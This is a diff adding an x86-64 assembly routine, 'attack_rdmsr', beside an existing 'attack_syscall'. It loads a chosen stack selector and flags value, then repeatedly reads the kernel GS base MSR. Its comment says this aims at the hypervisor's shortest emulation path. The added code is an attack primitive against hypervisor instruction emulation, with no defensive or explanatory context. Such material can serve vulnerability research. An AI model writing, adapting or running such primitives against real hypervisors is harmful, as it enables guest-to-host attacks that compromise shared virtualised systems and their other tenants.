@@ -25,4 +25,21 @@ attack_syscall:
     syscall
 attack_syscall_end:
 
+    // void attack_rdmsr(u64 selector, u64 flags): RDMSR of the user's GS base, which the hypervisor emulates in its
+    // shortest way, with this stack selector and these flags.
+    .globl attack_rdmsr
+attack_rdmsr:
+    pushfq
+    push %rsi
+    mov %edi, %ss
+    popfq
+    mov $0xc0000102, %ecx
+    .rept 8
+    rdmsr
+    .endr
+    popfq
+    mov $0xe02b, %ecx
+    mov %ecx, %ss
+    ret
+
     .section .note.GNU-stack, "", @progbits
